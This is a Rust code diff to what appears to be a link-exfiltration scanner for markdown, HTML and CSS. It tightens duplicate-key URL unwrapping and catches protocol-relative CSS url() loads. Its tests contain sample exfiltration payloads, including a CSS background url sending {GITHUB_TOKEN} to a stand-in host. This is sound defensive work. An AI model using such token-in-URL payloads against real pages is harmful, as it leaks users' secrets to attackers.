@@ -304,7 +304,13 @@ fn wrapped_target(authority: &str, url: &str, query: &str) -> Option<String> {
         let path_ok = if *p == "/" { path.is_empty() || path == "/" } else { path.eq_ignore_ascii_case(p) };
         host_ok && path_ok && query.split('&').any(|pair| pair.split_once('=').is_some_and(|(n, _)| n == *k))
     })?;
-    let value = query.split('&').find_map(|pair| pair.split_once('=').filter(|(n, _)| n == key).map(|(_, v)| v))?;
+    // (A key given twice is read first by some servers and last by others:
+    // such a link is judged as any other.)
+    let mut values = query.split('&').filter_map(|pair| pair.split_once('=').filter(|(n, _)| n == key).map(|(_, v)| v));
+    let value = values.next()?;
+    if values.next().is_some() {
+        return None;
+    }
     let value = if host.get(..11).is_some_and(|h| h.eq_ignore_ascii_case("urldefense.")) {
         std::borrow::Cow::Owned(value.replace('-', "%").replace('_', "/"))
     } else {
@@ -756,8 +762,11 @@ const LOADING_ATTRIBUTES: &[&str] =
 
 /// The web addresses a style sheet or a `style` attribute loads: each
 /// `url(…)` (quoted or not) and `@import "…"` whose target starts with
-/// `http://` or `https://`, with where the address is written.
-pub(crate) fn css_urls(css: &str) -> Vec<(std::ops::Range<usize>, &str)> {
+/// `http://`, `https://` or `//` (a browser loads it by the page's scheme:
+/// given as `https:`), with where the address is written. An address
+/// ends within 4 KiB of its opening or is not one (a sheet of a million
+/// unclosed `url('` stays linear), and none is read inside another.
+pub(crate) fn css_urls(css: &str) -> Vec<(std::ops::Range<usize>, String)> {
     let b = css.as_bytes();
     let mut out = Vec::new();
     // One pass over `(` and `@`: `url(` in any case, `@import`.
@@ -766,28 +775,48 @@ pub(crate) fn css_urls(css: &str) -> Vec<(std::ops::Range<usize>, &str)> {
         b'@' if b.get(i + 1..i + 7).is_some_and(|w| w.eq_ignore_ascii_case(b"import")) => Some(i + 7),
         _ => None,
     });
+    // Where the next end of each kind is (a `)` or a blank, `'`, `"`),
+    // found once for all the openings before it.
+    let mut ends = [0usize; 3];
+    let mut next_end = |kind: usize, from: usize| -> usize {
+        if ends[kind] <= from {
+            let is_end = |c: &u8| match kind {
+                0 => *c == b')' || c.is_ascii_whitespace(),
+                1 => *c == b'\'',
+                _ => *c == b'"',
+            };
+            ends[kind] = b[from..].iter().position(is_end).map_or(usize::MAX, |p| from + p);
+        }
+        ends[kind]
+    };
+    let mut last_end = 0;
     for from in starts {
-        let rest = &css[from..];
-        let lead = rest.len() - rest.trim_start().len();
-        let rest = rest.trim_start();
-        let (quote, body) = match rest.as_bytes().first() {
-            Some(&q @ (b'"' | b'\'')) => (Some(q as char), &rest[1..]),
-            _ => (None, rest),
+        if from < last_end {
+            continue;
+        }
+        let lead = b[from..].iter().take(64).take_while(|c| c.is_ascii_whitespace()).count();
+        let open = from + lead;
+        let (kind, body_at) = match b.get(open) {
+            Some(b'\'') => (1, open + 1),
+            Some(b'"') => (2, open + 1),
+            _ => (0, open),
         };
-        if !(body.get(..7).is_some_and(|h| h.eq_ignore_ascii_case("http://"))
-            || body.get(..8).is_some_and(|h| h.eq_ignore_ascii_case("https://")))
+        let body = &b[body_at.min(b.len())..];
+        let relative = body.starts_with(b"//");
+        if !(relative
+            || body.get(..7).is_some_and(|h| h.eq_ignore_ascii_case(b"http://"))
+            || body.get(..8).is_some_and(|h| h.eq_ignore_ascii_case(b"https://")))
         {
             continue;
         }
-        let end = match quote {
-            Some(q) => body.find(q),
-            None => body.find(|c: char| c == ')' || c.is_whitespace()),
+        // (An address a browser cannot end, or past 4 KiB, is not one.)
+        let end = next_end(kind, body_at);
+        if end == usize::MAX || end - body_at > 4096 {
+            continue;
         }
-        .unwrap_or(body.len())
-        .min(4096);
-        let end = body.floor_char_boundary(end);
-        let at = from + lead + usize::from(quote.is_some());
-        out.push((at..at + end, &body[..end]));
+        last_end = end;
+        let url = &css[body_at..end];
+        out.push((body_at..end, if relative { format!("https:{url}") } else { url.to_string() }));
     }
     out
 }
@@ -814,7 +843,12 @@ pub(crate) fn loads_at(raw: &[u8], at: usize) -> bool {
 
 /// Hits for suspicious link targets in text (markdown and HTML).
 pub(crate) fn scan(text: &str, out: &mut dyn FnMut(Hit)) {
-    if !text.contains("](") && !text.contains("]:") && !text.contains("://") && !text.contains("<img") {
+    if !text.contains("](")
+        && !text.contains("]:")
+        && !text.contains("://")
+        && !text.contains("<img")
+        && !text.contains("//")
+    {
         return;
     }
     // What was reported: each link once, and no two hits over the same
@@ -883,7 +917,7 @@ pub(crate) fn scan(text: &str, out: &mut dyn FnMut(Hit)) {
     }
     // What a style sheet loads (`@import url(…)`, a `background: url(…)`).
     for (range, url) in css_urls(text) {
-        add(range, url, true, &mut hits);
+        add(range, &url, true, &mut hits);
     }
     let img_tag = memchr::memchr_iter(b'<', bytes).any(|i| {
         bytes.get(i + 1..i + 4).is_some_and(|w| w.eq_ignore_ascii_case(b"img"))
@@ -1132,10 +1166,9 @@ mod tests {
             assert_eq!(rules(css), ["exfiltration.templated_url"], "{css}");
         }
         assert!(rules("p { background: url(https://cdn.example/hero.jpg) } @import url(/local.css);").is_empty());
-        assert_eq!(
-            css_urls("a{b:url( \"https://a.example/x\" )}").iter().map(|r| r.1).collect::<Vec<_>>(),
-            ["https://a.example/x"]
-        );
+        assert_eq!(css_urls("a{b:url( \"https://a.example/x\" )}")[0].1, "https://a.example/x");
+        // Protocol-relative: loaded by the page's scheme.
+        assert_eq!(rules("p { background: url(//css.x.test/p.png?d={GITHUB_TOKEN}) }"), ["exfiltration.templated_url"]);
     }
 
     #[test]
@@ -1155,6 +1188,8 @@ mod tests {
         assert_eq!(rule(&elsewhere), Some("exfiltration.data_in_url"));
         let other_path = safe.replace(".com/?url", ".com/go?url");
         assert_eq!(rule(&other_path), Some("exfiltration.data_in_url"));
+        let twice = format!("{safe}&url=https%3A%2F%2Fx.test%2Fc");
+        assert_eq!(rule(&twice), Some("exfiltration.data_in_url"));
     }
 
     #[test]
